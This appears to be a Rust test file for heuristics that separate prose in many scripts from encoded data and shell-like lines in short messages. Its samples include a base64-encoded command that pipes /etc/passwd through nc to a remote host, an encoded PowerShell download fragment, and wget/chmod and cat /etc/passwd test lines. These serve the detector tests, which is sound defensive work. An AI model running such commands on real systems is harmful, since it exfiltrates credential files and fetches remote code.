//! Prose in other scripts, and text mapped onto one, judged by [`super`]'s heuristics.

use super::*;

/// `t` is no human script and reads as encoded data of `kind`.
fn assert_encoded_as(t: &str, kind: &str) {
    assert!(!human_script(t), "{t}");
    let v = encoded_text(t, 20, 4.8).expect("encoded data");
    assert_eq!(v.kind, kind, "{t}");
}

#[test]
fn prose_in_other_scripts_is_not_encoded_data() {
    let chinese = "您好，您的快递今天下午三点送达，请保持电话畅通。如有疑问请回复本短信或致电客服热线，谢谢您的耐心等待。";
    // the bytes are high-entropy: without the script test this would be "encoded"
    assert!(entropy(chinese.as_bytes()) >= 4.8);
    assert!(human_script(chinese));
    assert_eq!(encoded_text(chinese, 20, 4.8), None);
    // random octets read as UCS-2 scatter over the blocks
    let mut x = 0x1234_5678u32;
    let random: String = (0..70)
        .filter_map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            char::from_u32(x & 0xffff)
        })
        .collect();
    assert!(!human_script(&random));
    assert!(!human_script("plain ASCII text of some length here"));
}

#[test]
fn octets_mapped_onto_one_block_are_not_prose() {
    // octets onto Ethiopic, Cyrillic, Arabic and Thai/Lao, of lengths one SMS or USSD holds
    for base in [0x1200u32, 0x0400, 0x0600, 0x0e00] {
        for n in [40usize, 66, 90, 140] {
            let text: String = xorshift_noise(0x9e37_79b9 ^ base << 8 ^ n as u32, n)
                .into_iter()
                .filter_map(|b| char::from_u32(base + u32::from(b)))
                .collect();
            assert_eq!(
                block_mapped(&text).map(|v| v.kind),
                Some("block_mapped"),
                "{base:#x} x{n}"
            );
            assert!(!human_script(&text), "{base:#x} x{n}");
            assert!(encoded_text(&text, 20, 4.8).is_some(), "{base:#x} x{n}");
        }
    }
    // prose in scripts whose letters fill a block, spaced and unspaced
    let prose = [
        // Amharic (Ethiopic), spaced and with the Ethiopic wordspace
        "ውድ ደንበኛችን፣ ሂሳብዎ በተሳካ ሁኔታ ተሞልቷል። ቀሪ ሂሳብዎ 25 ብር ነው። ለበለጠ መረጃ 994 ይደውሉ። እናመሰግናለን።",
        "ሰላም፡ለዓለም፡ይሁን፡ብሎ፡ተናገረ፡ወደ፡ቤቱም፡ሄደ፡በማግስቱም፡ተመልሶ፡መጣ፡ከወንድሞቹም፡ጋር፡ተገናኘ።",
        // Thai, unspaced
        "เรียนลูกค้าท่านได้รับโบนัสพิเศษจากการเติมเงินครั้งนี้สามารถตรวจสอบยอดคงเหลือได้ที่เมนูบริการของเราขอบคุณที่ใช้บริการ",
        // Russian, Arabic, Hindi, Hebrew, Georgian, Tibetan
        "Уважаемый абонент, ваш баланс пополнен на 500 рублей. Спасибо, что пользуетесь нашими услугами связи каждый день.",
        "عزيزي العميل، تم شحن رصيدك بنجاح. رصيدك الحالي هو خمسون جنيها. شكرا لاستخدامك خدماتنا ونتمنى لك يوما سعيدا.",
        "प्रिय ग्राहक, आपका रिचार्ज सफल रहा। आपका वर्तमान बैलेंस पचास रुपये है। हमारी सेवाओं का उपयोग करने के लिए धन्यवाद।",
        "לקוח יקר, החשבון שלך נטען בהצלחה. היתרה הנוכחית שלך היא חמישים שקלים. תודה שבחרת בשירותים שלנו היום.",
        "ძვირფასო აბონენტო, თქვენი ბალანსი წარმატებით შეივსო. მიმდინარე ბალანსი არის ორმოცდაათი ლარი. გმადლობთ.",
        "བཀྲ་ཤིས་བདེ་ལེགས། ཁྱེད་རང་གི་རྩིས་ཁྲ་ལ་དངུལ་བསྣན་ཟིན། ཐུགས་རྗེ་ཆེ། ང་ཚོའི་ཞབས་ཞུ་བེད་སྤྱོད་གནང་བར་ཐུགས་རྗེ་ཆེ།",
        // Japanese in kana only, unspaced
        "おきゃくさまいつもごりようありがとうございますこんげつのごりようりょうきんはさんぜんえんですおしはらいをおねがいします",
    ];
    for p in prose {
        assert_eq!(block_mapped(p), None, "{p}");
        assert_eq!(encoded_text(p, 20, 4.8), None, "{p}");
    }
}

#[test]
fn padded_base64_of_utf16_text() {
    // PowerShell's -enc takes UTF-16LE: its base64 repeats 'A' and measures low
    let t = "AnAGgAdAB0AHAAOgAvAC8AOQAxAC4AOQAyAC4AMgA0ADAALgAxADAALwBhAC4AcABzADEAJwApAA==";
    assert!(entropy(t.as_bytes()) < BASE64_MIN_ENTROPY);
    assert_eq!(encoded_text(t, 20, 4.8).map(|v| v.kind), Some("base64"));
    // a word-like token with a trailing '=' is not (no digits, or not whole quanta)
    assert_eq!(
        encoded_text("Total=Amount+Fee/Rate for the whole period =", 20, 4.8),
        None
    );
}

#[test]
fn octets_mapped_onto_ideographs_or_hangul_are_not_prose() {
    let human = [
        "您好，您的快递今天下午三点送达，请保持电话畅通。如有疑问请回复本短信或致电客服热线，谢谢您的耐心等待。",
        "【中國移動】尊敬的客戶，您本月的話費帳單已經出爐，請於月底前繳費，以免影響正常使用。查詢請撥打客服熱線。",
        "お客様の携帯電話の利用料金のお支払いが確認できませんでした。至急ご確認ください。",
        "안녕하세요 고객님, 이번 달 요금이 청구되었습니다. 자세한 내용은 고객센터로 문의해 주세요.",
        "尊敬的用户：您已成功办理流量包业务，本月剩余流量为２.５ＧＢ，感谢您的使用！【中国联通】",
    ];
    for t in human {
        assert!(human_script(t), "{t}");
        assert_eq!(rare_ideographs(t), None, "{t}");
        assert_eq!(encoded_text(t, 20, 4.8), None, "{t}");
    }
    // a rare character or two (a name) among common ones stays prose
    assert!(human_script(
        "祝你生日快乐，张曦月！今天晚上我们一起去吃火锅吧，不见不散。"
    ));
    // octets of several payloads and lengths, an octet a character or eleven bits
    // (base-2048 over U+4E00), onto the ideographs and onto Hangul
    for seed in 1..=20u32 {
        let data = xorshift_noise(seed, 16 + 4 * seed as usize);
        let one = |base: u32| -> String {
            data.iter()
                .filter_map(|b| char::from_u32(base + u32::from(*b)))
                .collect()
        };
        let b2048: String = data
            .chunks(2)
            .filter_map(|p| {
                let v = p.iter().fold(0u32, |a, b| (a << 8) | u32::from(*b)) & 0x7ff;
                char::from_u32(0x4e00 + v)
            })
            .collect();
        for t in [one(0x4e00), one(0x5000), one(0xac00), b2048] {
            if t.chars().count() < 16 {
                continue;
            }
            assert_encoded_as(&t, "rare_ideographs");
        }
    }
}

#[test]
fn data_in_the_letters_of_spaced_scripts_is_not_prose() {
    let human = [
        "Здравствуйте! Ваш заказ доставлен в пункт выдачи. Код получения: 4821. Спасибо, что выбрали нас.",
        "مرحبا، تم شحن طلبك وسيصل خلال يومين. للاستفسار اتصل بخدمة العملاء على الرقم المجاني.",
        "நீங்கள் அனுப்பிய பணம் வெற்றிகரமாக பெறப்பட்டது. உங்கள் இருப்பு விரைவில் புதுப்பிக்கப்படும்.",
        "பார்த்துக்கொண்டிருந்தேன் அவர்கள் வந்துகொண்டிருக்கிறார்கள்",
        "Ευχαριστούμε για την αγορά σας. Η παραγγελία σας θα αποσταλεί αύριο το πρωί.",
        "გამარჯობა, თქვენი შეკვეთა მიღებულია და მალე გამოგზავნით. მადლობა!",
        "ሰላም፣ ክፍያዎ በተሳካ ሁኔታ ተፈጽሟል። እናመሰግናለን።",
        "აუცილებლადგადაამოწმეთ თქვენი ანგარიში",
        "ааааааааааааааааааааааааааааааааааааааааа",
        "Привет,как дела?Я дома,приходи вечером.Жду тебя,не опаздывай!Целую",
        "Ваш код: 482913. Никому не сообщайте код! Подробнее: https://example.ru/a/b",
        "Сумма:15000руб.Баланс:2340руб.Карта*4471.Спасибо за то,чтовыснами",
    ];
    for t in human {
        assert!(unspaced_letters(t).is_none(), "{t}");
        assert_eq!(encoded_text(t, 20, 4.8), None, "{t}");
    }
    // base64 with Cyrillic letters for its letters (its digits and symbols as they are),
    // hex written with 16 Arabic letters
    for seed in 1..=10u32 {
        let b64: String = xorshift_noise(seed, 40)
            .iter()
            .map(|b| match b % 64 {
                x @ 0..=25 => char::from_u32(0x0410 + u32::from(x)).unwrap_or('?'),
                x @ 26..=51 => char::from_u32(0x0430 + u32::from(x - 26)).unwrap_or('?'),
                x @ 52..=61 => char::from(b'0' + (x - 52)),
                62 => '+',
                _ => '/',
            })
            .collect();
        let hex: String = xorshift_noise(seed + 50, 24)
            .iter()
            .flat_map(|b| [b >> 4, b & 15])
            .filter_map(|n| char::from_u32(0x0627 + u32::from(n)))
            .collect();
        for t in [b64, hex] {
            assert!(!human_script(&t), "{t}");
            assert_eq!(
                encoded_text(&t, 20, 4.8).map(|v| v.kind),
                Some("unspaced_letters"),
                "{t}"
            );
        }
    }
    // base32/base64 digits written with Cyrillic, Greek or Arabic letters
    let alphabets: [(u32, u32); 3] = [(0x0410, 64), (0x03b1, 25), (0x0621, 26)];
    for seed in 1..=10u32 {
        for (first, size) in alphabets {
            let t: String = xorshift_noise(seed, 48)
                .iter()
                .filter_map(|b| char::from_u32(first + u32::from(*b) % size))
                .filter(|c| !c.is_whitespace())
                .collect();
            assert_encoded_as(&t, "unspaced_letters");
        }
    }
}

#[test]
fn notifications_laid_out_as_fields_are_not_encoded_data() {
    let alerts = [
        "Acct:181*5665\nAmt:NGN126,302.84 CR\nDesc:TRF FRM ADEBAYO O/0912\nBal:NGN1,402,118.07\nDate:04-Dec-2024 09:50",
        "Acct: 00**4471 Amt: NGN5,000.00 DR Desc: POS/WEB KFC IKEJA Avail Bal: NGN82,311.40 Date: 04/12/2024 10:02",
        "Txn Alert\r\nA/C: XX7723\r\nAmt: KES 2,450.00\r\nRef: QK41HZ9PL2\r\nBal: KES 18,004.55",
    ];
    for a in alerts {
        assert!(form_like(a), "{a}");
        assert_eq!(encoded_text(a, 20, 4.8), None, "{a}");
    }
    // ciphertext rendered as text is no form, and base64 after a label is still base64
    assert!(!form_like("k9#Qz!mR2v@Lp8$Wn4^Tx6&Yb1*Hc3(Jd5)Fg7-Ks0+Vu"));
    let b64 = "Data:aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dkIHwgbmMgMTAuMC4wLjEgNDQ0NA==";
    assert!(encoded_text(b64, 20, 4.8).is_some());
}

#[test]
fn shell_lines_and_plain_text() {
    assert!(shell_like("cat /etc/passwd").is_some());
    assert!(shell_like("wget http://x/y; chmod +x y").is_some());
    assert!(shell_like("Meet me at 5 / bring the cat").is_none());
    assert!(shell_like("*100#").is_none());
    assert!(shell_like("Call me && bring snacks").is_none());
}
